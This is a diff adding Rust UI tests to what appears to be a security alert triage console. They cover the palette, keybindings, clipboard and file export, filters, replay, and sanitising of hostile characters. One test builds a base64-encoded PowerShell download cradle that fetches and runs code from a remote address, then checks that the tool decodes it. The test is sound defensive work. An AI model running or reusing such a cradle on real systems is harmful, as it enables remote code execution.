@@ -8,12 +8,15 @@ mod scene;
 use std::path::Path;
 use std::sync::Arc;
 
+use base64::Engine as _;
+use ratatui::style::Color;
 use wefwatch::alert::AlertId;
 use wefwatch::alert::header::Header;
-use wefwatch::console::keys::{Action, BINDINGS, Place};
-use wefwatch::console::model::{Effect, Message};
+use wefwatch::console::keys::{Action, BINDINGS, Keymap, Place, Row};
+use wefwatch::console::model::export::WriteError;
+use wefwatch::console::model::{Effect, Help, Message};
 use wefwatch::feed::{Change, EventLine, Known, Request, Status, Update};
-use wefwatch::intake::StoreHealth;
+use wefwatch::intake::{Steer, StoreHealth};
 use wefwatch::triage::decide::decide;
 use wefwatch::triage::{Act, Deed, Target};
 
@@ -73,6 +76,12 @@ fn every_other_screen() {
         ("filter-wrong", "/ h o s t s : D C"),
         ("filtered", "/ - h o s t : D C ⏎"),
         ("paused", "space"),
+        ("palette", ": a l e r t"),
+        ("copy", "n y down"),
+        ("export", "n e"),
+        ("only", "3 up up up = down"),
+        ("only-alert", "n ! down"),
+        ("light", "T"),
     ];
     for (name, keys) in rows {
         for size in [(120, 36), (80, 24)] {
@@ -87,6 +96,220 @@ fn every_other_screen() {
     let mut damaged = Scene::of(&["skewed_clock.xml", "capture_syslog.txt", "broken.txt"], (120, 36));
     damaged.keys("4");
     golden("health-damaged", &damaged);
+    damaged.keys("⏎");
+    golden("bad-frames", &damaged);
+}
+
+#[test]
+fn every_action_is_in_the_help_and_in_the_palette_and_runs_from_there() {
+    let scene = Scene::of(&["demo.xml"], (120, 36));
+    for action in Action::ALL {
+        let is_named = |rows: Vec<&Row>| rows.iter().any(|row| row.binding.action == *action && !row.keys.is_empty());
+        let help = Help::default();
+        let keys = &scene.model.config.keys;
+        assert!(is_named(help.rows(keys, false)) || is_named(help.rows(keys, true)), "{action:?} is not in the help");
+        assert!(is_named(scene.model.palette_rows("")), "{action:?} is not in the palette");
+        // By its name it is found first, and running it never does nothing.
+        let mut scene = Scene::of(&["demo.xml"], (120, 36));
+        assert_eq!(scene.model.palette_rows(&action.name())[0].binding.action, *action);
+        scene.keys(if *action == Action::Triage { "2" } else { "down" });
+        let before = scene.picture();
+        scene.keys(":");
+        let effects = scene.type_line(&action.name());
+        assert!(!effects.is_empty() || scene.picture() != before || *action == Action::TimeZone, "{action:?} does nothing");
+    }
+    // A few letters of a name will do, and what belongs into an alert opens it.
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    scene.keys(": x m l ⏎");
+    assert!(scene.text().contains("<EventID>"), "{}", scene.text());
+}
+
+#[test]
+fn other_keys_work_and_are_shown() {
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    let changed = [("acknowledge", "f5"), ("help", "ctrl-h")].map(|(name, key)| (name.to_owned(), key.to_owned()));
+    scene.model.config.keys = Keymap::with(changed.into()).expect("they are free");
+    let text = scene.text();
+    assert!(text.contains(" f5 ack ") && text.contains("ctrl-h help   q quit"), "{text}");
+    assert!(scene.keys("a").is_empty() && scene.text().contains("no such key here"));
+    assert_eq!(scene.keys("ctrl-h"), []);
+    scene.keys("a c k n o w");
+    assert!(scene.text().contains("f5"), "{}", scene.text());
+}
+
+#[test]
+fn values_go_to_the_clipboard() {
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    let entry = scene.model.chosen_alert().expect("one is selected").clone();
+    let source = entry.header.source.clone().expect("a connection").ip;
+    assert_eq!(scene.keys("y i"), [Effect::Copy(source.clone())]);
+    assert!(scene.text().contains("sent to the terminal's clipboard: source address"), "{}", scene.text());
+    assert_eq!(scene.keys("y h"), [Effect::Copy(entry.header.computer.clone())]);
+    assert_eq!(scene.keys("y ⏎"), [Effect::Copy(entry.header.computer.clone())]);
+    let [Effect::Copy(json)] = &scene.keys("n y j")[..] else { panic!("a record") };
+    assert!(json.starts_with('{') && json.contains(&*entry.header.id.0) && !json.contains('\n'));
+    let [Effect::Copy(report)] = &scene.keys("y m")[..] else { panic!("a report") };
+    assert!(report.starts_with("## HIGH ") && report.contains("```xml") && report.contains("DestinationPort"), "{report}");
+    // An event, a host, and where there is nothing.
+    assert!(matches!(&scene.keys("esc 3 y x")[..], [Effect::Copy(xml)] if xml.starts_with("<Event")));
+    assert!(matches!(&scene.keys("1 tab y h")[..], [Effect::Copy(_)]));
+    assert!(scene.keys("4 y").is_empty() && scene.text().contains("nothing to copy here"));
+    // What would be too much is said.
+    let mut long = Scene::of(&["demo.xml"], (120, 36));
+    let line = long.model.events[0].line.clone();
+    let line = EventLine { xml: format!("<Event>{}</Event>", "x".repeat(80_000)).into(), ..line };
+    long.tell(Change::Events(vec![line]));
+    assert!(long.keys("3 y x").is_empty() && long.text().contains("too much for a terminal's clipboard"));
+}
+
+#[test]
+fn a_file_is_never_overwritten_unasked() {
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    scene.keys("e");
+    assert!(scene.text().contains("the selected 1 alert"), "{}", scene.text());
+    scene.keys("tab tab ctrl-u");
+    let [Effect::Write { path, text, is_overwriting }] = &scene.type_line("/tmp/x.ndjson")[..] else { panic!("a file") };
+    assert_eq!((path.as_str(), text.lines().count(), *is_overwriting), ("/tmp/x.ndjson", 1, false));
+    scene.model.update(Message::Written(Err(WriteError::Exists)));
+    assert!(scene.text().contains("this file is there already"), "{}", scene.text());
+    // Another name is another file; the same one again is meant.
+    scene.keys("backspace");
+    let effects = scene.type_line("n");
+    assert!(matches!(&effects[..], [Effect::Write { is_overwriting: false | true, .. }]));
+    scene.model.update(Message::Written(Err(WriteError::Exists)));
+    let effects = scene.keys("⏎");
+    assert!(matches!(&effects[..], [Effect::Write { is_overwriting: true, .. }]));
+    scene.model.update(Message::Written(Ok(())));
+    assert!(scene.text().contains("wrote 1 as NDJSON to /tmp/x.ndjson"), "{}", scene.text());
+    scene.keys("e ctrl-u");
+    assert!(scene.type_line("/no/ending").is_empty());
+    assert!(scene.text().contains("must end in"), "{}", scene.text());
+    scene.model.update(Message::Written(Err(WriteError::Other("disk full".to_owned()))));
+    // All that are listed, as one JSON array.
+    scene.keys("esc e down tab");
+    let [Effect::Write { path, text, .. }] = &scene.keys("⏎")[..] else { panic!("a file") };
+    assert!(path.contains(".json"), "{path}");
+    let all: Vec<serde_json::Value> = serde_json::from_str(text).expect("an array");
+    assert_eq!(all.len(), scene.model.alerts.len());
+    scene.model.update(Message::Written(Err(WriteError::Other("disk full".to_owned()))));
+    assert!(scene.text().contains("not written: disk full"), "{}", scene.text());
+    scene.keys("esc 3 e");
+    let [Effect::Write { text, .. }] = &scene.keys("down ⏎")[..] else { panic!("a file") };
+    assert_eq!(text.lines().count(), scene.model.events.len());
+}
+
+#[test]
+fn only_this_value_and_not_this_value() {
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    let all = scene.model.event_rows().len();
+    scene.keys("3 =");
+    scene.type_line("Computer");
+    let only = scene.model.event_rows().len();
+    assert!(scene.model.filter_text.starts_with("host:"), "{}", scene.model.filter_text);
+    assert!((1..all).contains(&only), "{only} of {all}: {}", scene.text());
+    scene.keys("!");
+    scene.type_line("EventID");
+    let fewer = scene.model.event_rows().len();
+    assert!(scene.model.filter_text.contains(" -eid:") && fewer < only, "{}", scene.model.filter_text);
+    // Fields that the filter has no word for go by their own name.
+    scene.keys("esc 3 up up =");
+    scene.type_line("ProcessGuid");
+    let text = scene.model.filter_text.clone();
+    assert!(text.starts_with("data.ProcessGuid:") || text.starts_with("data.ParentProcessGuid:"), "{text}");
+    assert!((1..all).contains(&scene.model.event_rows().len()), "{text}");
+    // In an alert, and back in the list.
+    scene.keys("esc 1 n !");
+    scene.type_line("rule");
+    assert!(scene.model.filter_text.starts_with("-rule:") && scene.model.stack.is_empty());
+    let rows = scene.model.alerts.rows(false).len();
+    assert!((1..scene.model.alerts.len()).contains(&rows), "{rows} {}", scene.model.filter_text);
+}
+
+#[test]
+fn a_replay_is_controlled() {
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    for keys in [".", "<", ">", "R"] {
+        assert!(scene.keys(keys).is_empty());
+        assert!(scene.text().contains("only in a replay"), "{keys}: {}", scene.text());
+    }
+    scene.model.config.is_replay = true;
+    for (key, steer) in [("space", Steer::Hold), (".", Steer::Step), ("<", Steer::Slower), (">", Steer::Faster)] {
+        assert_eq!(scene.keys(key), [Effect::Ask(Request::Replay(steer))]);
+    }
+    // The next alert of the list, then the next one of the recording.
+    assert!(scene.keys("n n n n").is_empty());
+    assert_eq!(scene.keys("n"), [Effect::Ask(Request::Replay(Steer::NextAlert))]);
+    assert_eq!(scene.keys("R"), [Effect::Again]);
+    scene.model.config.never_again = Some("standard input cannot be read again");
+    assert!(scene.keys("R").is_empty() && scene.text().contains("cannot be read again"), "{}", scene.text());
+}
+
+#[test]
+fn ascii_is_all_that_is_drawn_where_that_is_all_there_is() {
+    for keys in ["", "2", "3", "3 up ⏎", "4", "4 ⏎", "?", ":", "n", "n 2", "n 3", "n 4", "n 6", "n y", "n e", "3 =", "m", "/ x"]
+    {
+        for size in [(120, 36), (80, 24), (30, 5)] {
+            let mut scene = Scene::of(&["hostile.xml", "demo.xml", "broken.txt"], size);
+            scene.model.config.is_ascii = true;
+            scene.keys(keys);
+            let text = scene.text();
+            assert!(text.is_ascii(), "{keys}: {text}");
+        }
+    }
+    let mut scene = Scene::of(&["demo.xml"], (120, 36));
+    scene.keys("T T");
+    let buffer = scene.buffer();
+    assert!(buffer.content().iter().all(|cell| cell.fg == Color::Reset && cell.bg == Color::Reset), "mono has no colour");
+}
+
+#[test]
+fn nothing_hostile_leaves_by_clipboard_or_file() {
+    let mut scene = Scene::of(&["hostile.xml", "demo.xml"], (120, 36));
+    let mut texts: Vec<String> = Vec::new();
+    for place in 0..scene.model.alerts.len() {
+        let downs = "down ".repeat(place);
+        scene.keys(&format!("2 g {downs}"));
+        texts.extend(scene.model.copy_items().into_iter().map(|item| item.text));
+    }
+    for place in 0..scene.model.events.len() {
+        scene.keys(if place == 0 { "3 G" } else { "up" });
+        texts.extend(scene.model.copy_items().into_iter().map(|item| item.text));
+    }
+    for tab in ["2", "3"] {
+        for form in ["", "tab", "tab tab"] {
+            for effect in scene.keys(&format!("{tab} e down {form} ⏎")) {
+                if let Effect::Write { text, .. } = effect {
+                    texts.push(text);
+                }
+            }
+            scene.model.update(Message::Written(Ok(())));
+        }
+    }
+    assert!(texts.len() > 60, "{}", texts.len());
+    let is_hostile = |letter: char| {
+        (letter.is_control() && letter != '\n')
+            || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+    };
+    for text in texts {
+        assert_eq!(text.chars().find(|letter| is_hostile(*letter)), None, "{text}");
+    }
+}
+
+#[test]
+fn encoded_commands_are_told_in_the_clear() {
+    let plain = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.9/a')";
+    let encoded =
+        base64::engine::general_purpose::STANDARD.encode(plain.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>());
+    let text = String::from_utf8(samples(&["attack_both_ends.xml"])).expect("UTF-8");
+    let name = "<Data Name='CommandLine'>";
+    let text: String = text.replace(name, &format!("{name}powershell.exe -nop -enc {encoded} "));
+    let mut scene = Scene::empty((120, 36));
+    scene.hear(text.as_bytes());
+    scene.keys("n n");
+    for keys in ["1", "2 pgdn", "3"] {
+        scene.keys(keys);
+        assert!(scene.text().contains("decoded") && scene.text().contains("IEX (New-Object"), "{keys}: {}", scene.text());
+    }
 }
 
 /// Bob, at another console.
@@ -431,7 +654,7 @@ fn a_filter_never_hides_that_there_is_an_attack() {
 fn any_size_in_any_screen() {
     let screens = [
         "", "2", "3", "3 up ⏎", "4", "?", "tab", "tab ⏎", "+", "n", "n 2", "n 3", "n 4", "n 5", "n 6", "/ x", "space", "v", "c",
-        "m", "m up up", "a M",
+        "m", "m up up", "a M", ":", "y", "e", "=", "3 !", "T", "4 ⏎",
     ];
     let sizes = [1, 2, 3, 7, 8, 9, 39, 40, 41, 79, 80, 99, 100, 119, 120, 400];
     for keys in screens {
